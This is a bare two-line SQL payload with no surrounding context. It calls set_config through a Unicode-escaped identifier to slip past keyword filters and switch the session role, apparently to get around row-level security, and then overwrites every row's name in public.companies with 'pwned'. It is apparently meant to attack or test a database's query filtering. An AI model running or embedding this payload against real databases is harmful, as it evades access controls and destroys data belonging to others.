SELECT U&"!0073et_config" UESCAPE '!' ('role', 'none', true);
UPDATE public.companies SET name = 'pwned';
